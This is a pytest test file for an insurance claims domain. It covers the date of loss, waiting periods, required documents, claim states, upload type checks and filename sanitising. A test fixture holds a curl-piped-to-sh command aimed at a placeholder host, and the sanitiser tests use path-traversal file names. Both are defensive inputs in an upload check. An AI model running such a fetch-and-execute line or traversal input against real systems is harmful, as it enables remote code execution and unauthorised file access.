"""Claims, pure domain (DOMAIN.md §8): cause and date of loss, when a claim may open, the documents
it needs, the checks on uploaded documents, and its states. No database.

Dates follow one buyer: first overdue notification on 15 June 2026, waiting
period 150 days (the default), so a protracted default makes the loss on
12 November 2026 (15 June + 150 days).
"""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tradecover.domain.claims import (
    CLAIM_MOVES,
    ClaimCause,
    ClaimStatus,
    DocumentKind,
    LossEvent,
    check_can_open,
    check_claim_move,
    check_document,
    loss_event,
    missing_documents,
    paired,
    required_documents,
    safe_filename,
)
from tradecover.domain.errors import InvalidInput, RuleBroken
from tradecover.domain.money import Money

NOTIFIED = date(2026, 6, 15)
WAITING = 150
END_OF_WAITING = date(2026, 11, 12)  # 15 June + 150 days
AT = datetime(2026, 11, 12, 9, 0, tzinfo=UTC)

PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF"
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid | sh\n"


# --- Cause and date of loss --------------------------------------------------------------------------------


def test_date_of_loss_is_the_insolvency_judgment() -> None:
    judged = date(2026, 8, 3)
    event = loss_event(notified_on=NOTIFIED, waiting_period_days=WAITING, insolvency_judgment_date=judged)
    assert event == LossEvent(ClaimCause.INSOLVENCY, judged)


def test_an_insolvency_judged_before_the_notification_is_still_the_date_of_loss() -> None:
    judged = date(2026, 6, 1)
    event = loss_event(notified_on=NOTIFIED, waiting_period_days=WAITING, insolvency_judgment_date=judged)
    assert event == LossEvent(ClaimCause.INSOLVENCY, judged)


def test_date_of_loss_is_the_end_of_the_waiting_period() -> None:
    event = loss_event(notified_on=NOTIFIED, waiting_period_days=WAITING, insolvency_judgment_date=None)
    assert event == LossEvent(ClaimCause.PROTRACTED_DEFAULT, END_OF_WAITING)


def test_an_insolvency_judged_after_the_waiting_period_leaves_the_protracted_default() -> None:
    # The earlier event makes the loss: on the last day of the waiting period the judgment still counts.
    on_the_day = loss_event(notified_on=NOTIFIED, waiting_period_days=WAITING, insolvency_judgment_date=END_OF_WAITING)
    assert on_the_day == LossEvent(ClaimCause.INSOLVENCY, END_OF_WAITING)
    later = END_OF_WAITING + timedelta(days=1)
    event = loss_event(notified_on=NOTIFIED, waiting_period_days=WAITING, insolvency_judgment_date=later)
    assert event == LossEvent(ClaimCause.PROTRACTED_DEFAULT, END_OF_WAITING)


def test_claim_cannot_open_before_the_waiting_period_ends() -> None:
    event = loss_event(notified_on=NOTIFIED, waiting_period_days=WAITING, insolvency_judgment_date=None)
    with pytest.raises(RuleBroken) as error:
        check_can_open(event, END_OF_WAITING - timedelta(days=1))
    assert error.value.code == "claim.waiting_period_running"
    check_can_open(event, END_OF_WAITING)
    check_can_open(event, END_OF_WAITING + timedelta(days=1))


def test_an_insolvency_claim_opens_from_the_judgment_without_waiting() -> None:
    judged = date(2026, 7, 1)
    event = loss_event(notified_on=NOTIFIED, waiting_period_days=WAITING, insolvency_judgment_date=judged)
    check_can_open(event, judged)


# --- Documents required (seed 001) --------------------------------------------------------------------------


def test_a_claim_needs_the_unpaid_invoices_the_proof_of_delivery_and_of_collection_attempts() -> None:
    assert required_documents(ClaimCause.PROTRACTED_DEFAULT) == (
        DocumentKind.UNPAID_INVOICES,
        DocumentKind.PROOF_OF_DELIVERY,
        DocumentKind.COLLECTION_ATTEMPTS,
    )
    assert missing_documents(ClaimCause.PROTRACTED_DEFAULT, [DocumentKind.UNPAID_INVOICES, DocumentKind.OTHER]) == (
        DocumentKind.PROOF_OF_DELIVERY,
        DocumentKind.COLLECTION_ATTEMPTS,
    )
    assert missing_documents(ClaimCause.PROTRACTED_DEFAULT, required_documents(ClaimCause.PROTRACTED_DEFAULT)) == ()


def test_insolvency_claim_requires_the_administrator_filing() -> None:
    base = required_documents(ClaimCause.PROTRACTED_DEFAULT)
    assert DocumentKind.ADMINISTRATOR_CLAIM_FILING in required_documents(ClaimCause.INSOLVENCY)
    assert missing_documents(ClaimCause.INSOLVENCY, base) == (DocumentKind.ADMINISTRATOR_CLAIM_FILING,)
    assert missing_documents(ClaimCause.INSOLVENCY, [*base, DocumentKind.ADMINISTRATOR_CLAIM_FILING]) == ()


# --- Claim states ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("current", "new"),
    [
        (ClaimStatus.PENDING, ClaimStatus.COMPLETE),
        (ClaimStatus.COMPLETE, ClaimStatus.SETTLED),
        (ClaimStatus.COMPLETE, ClaimStatus.AWAITING_APPROVAL),
        (ClaimStatus.COMPLETE, ClaimStatus.REFUSED),
        (ClaimStatus.AWAITING_APPROVAL, ClaimStatus.SETTLED),
        (ClaimStatus.AWAITING_APPROVAL, ClaimStatus.COMPLETE),
    ],
)
def test_a_claim_moves_along_its_states(current: ClaimStatus, new: ClaimStatus) -> None:
    check_claim_move(current, new)


@pytest.mark.parametrize(
    ("current", "new"),
    [
        (ClaimStatus.PENDING, ClaimStatus.SETTLED),  # documents missing: no settlement
        (ClaimStatus.PENDING, ClaimStatus.AWAITING_APPROVAL),
        (ClaimStatus.SETTLED, ClaimStatus.COMPLETE),
        (ClaimStatus.SETTLED, ClaimStatus.REFUSED),
        (ClaimStatus.REFUSED, ClaimStatus.PENDING),
        (ClaimStatus.AWAITING_APPROVAL, ClaimStatus.REFUSED),
    ],
)
def test_a_claim_cannot_skip_or_leave_a_final_state(current: ClaimStatus, new: ClaimStatus) -> None:
    with pytest.raises(RuleBroken) as error:
        check_claim_move(current, new)
    assert error.value.code == "claim.invalid_transition"


def test_settled_and_refused_claims_are_final() -> None:
    assert CLAIM_MOVES[ClaimStatus.SETTLED] == frozenset()
    assert CLAIM_MOVES[ClaimStatus.REFUSED] == frozenset()
    assert set(CLAIM_MOVES) == set(ClaimStatus)


# --- Uploaded documents --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("filename", "content_type", "content", "stored"),
    [
        ("invoice-F-1.pdf", "application/pdf", PDF, "application/pdf"),
        ("DELIVERY.PDF", "application/pdf; charset=binary", PDF, "application/pdf"),
        ("scan.png", "image/png", PNG, "image/png"),
        ("photo.jpeg", "image/jpeg", JPEG, "image/jpeg"),
        ("photo.jpg", None, JPEG, "image/jpeg"),  # no declared type: the name's
        ("fax.tif", "application/octet-stream", b"II*\x00rest", "image/tiff"),
    ],
)
def test_a_document_whose_name_type_and_content_agree_is_accepted(
    filename: str, content_type: str | None, content: bytes, stored: str
) -> None:
    assert check_document(filename, content_type, content, max_bytes=1_000) == stored


def test_a_script_named_pdf_is_refused() -> None:
    with pytest.raises(InvalidInput) as error:
        check_document("invoice.pdf", "application/pdf", SCRIPT, max_bytes=1_000)
    assert error.value.code == "claim.document_type"
    with pytest.raises(InvalidInput) as error:
        check_document("invoice.pdf", None, SCRIPT, max_bytes=1_000)
    assert error.value.code == "claim.document_type"


def test_a_png_declared_as_pdf_is_refused() -> None:
    with pytest.raises(InvalidInput) as error:
        check_document("scan.pdf", "application/pdf", PNG, max_bytes=1_000)
    assert error.value.code == "claim.document_type"


def test_a_name_that_disagrees_with_the_declared_type_is_refused() -> None:
    with pytest.raises(InvalidInput) as error:
        check_document("scan.pdf", "image/png", PNG, max_bytes=1_000)
    assert error.value.code == "claim.document_type"


@pytest.mark.parametrize(
    ("filename", "content_type"),
    [("run.sh", "application/x-sh"), ("page.html", "text/html"), ("report", "application/pdf"), ("a.exe", None)],
)
def test_types_other_than_pdf_png_jpeg_tiff_are_refused(filename: str, content_type: str | None) -> None:
    with pytest.raises(InvalidInput) as error:
        check_document(filename, content_type, PDF, max_bytes=1_000)
    assert error.value.code == "claim.document_type"


def test_a_document_too_large_is_refused() -> None:
    content = PDF + b"0" * (1_000 - len(PDF))
    assert check_document("big.pdf", "application/pdf", content, max_bytes=1_000) == "application/pdf"
    with pytest.raises(InvalidInput) as error:
        check_document("big.pdf", "application/pdf", content + b"0", max_bytes=1_000)
    assert error.value.code == "claim.document_too_large"
    assert error.value.context["size"] == 1_001


def test_an_empty_document_is_refused() -> None:
    with pytest.raises(InvalidInput) as error:
        check_document("empty.pdf", "application/pdf", b"", max_bytes=1_000)
    assert error.value.code == "claim.document_empty"


@pytest.mark.parametrize(
    ("uploaded", "stored"),
    [
        ("../../etc/passwd", "passwd"),
        ("/var/www/invoice.pdf", "invoice.pdf"),
        ("C:\\Users\\compta\\Desktop\\relance.pdf", "relance.pdf"),
        ("..\\..\\boot.ini", "boot.ini"),
        ("bad\x00name\n.pdf", "bad_name_.pdf"),
        ('a"b<c>d|e?.pdf', "a_b_c_d_e_.pdf"),
        ("..", "document"),
        ("dir/", "document"),
        ("", "document"),
        ("  facture mars.pdf  ", "facture mars.pdf"),
    ],
)
def test_safe_filename_strips_paths(uploaded: str, stored: str) -> None:
    assert safe_filename(uploaded) == stored


def test_safe_filename_keeps_the_end_of_a_long_name() -> None:
    name = safe_filename("x" * 200 + ".pdf")
    assert len(name) == 120
    assert name.endswith(".pdf")


# --- Money movements ---------------------------------------------------------------------------------------


def test_a_paired_movement_sums_to_zero() -> None:
    amount = Money.of("27000.00", "EUR")
    out, into = paired(
        ids=("m-1", "m-2"),
        transaction_id="t-1",
        claim_id="c-1",
        kind="indemnity",
        source="insurer",
        target="insured:p-1",
        amount=amount,
        on=END_OF_WAITING,
        reference="CLM-2026-000001",
        at=AT,
    )
    assert (out.account, out.amount) == ("insurer", -amount)
    assert (into.account, into.amount) == ("insured:p-1", amount)
    assert out.amount + into.amount == Money.zero("EUR")
    assert out.transaction_id == into.transaction_id == "t-1"


# --- Properties --------------------------------------------------------------------------------------------


@given(
    st.dates(date(2020, 1, 1), date(2030, 12, 31)),
    st.integers(0, 400),
    st.one_of(st.none(), st.integers(-200, 600)),
    st.integers(-10, 700),
)
@settings(max_examples=300, deadline=None)
def test_no_claim_opens_before_the_date_of_loss_for_protracted_default(
    notified: date, waiting: int, judgment_offset: int | None, on_offset: int
) -> None:
    judged = None if judgment_offset is None else notified + timedelta(days=judgment_offset)
    event = loss_event(notified_on=notified, waiting_period_days=waiting, insolvency_judgment_date=judged)
    end = notified + timedelta(days=waiting)
    assert event.date_of_loss <= end
    assert (event.cause is ClaimCause.INSOLVENCY) == (judged is not None and judged <= end)
    on = notified + timedelta(days=on_offset)
    if event.cause is ClaimCause.PROTRACTED_DEFAULT:
        assert event.date_of_loss == end
        if on < event.date_of_loss:
            with pytest.raises(RuleBroken):
                check_can_open(event, on)
            return
    check_can_open(event, on)
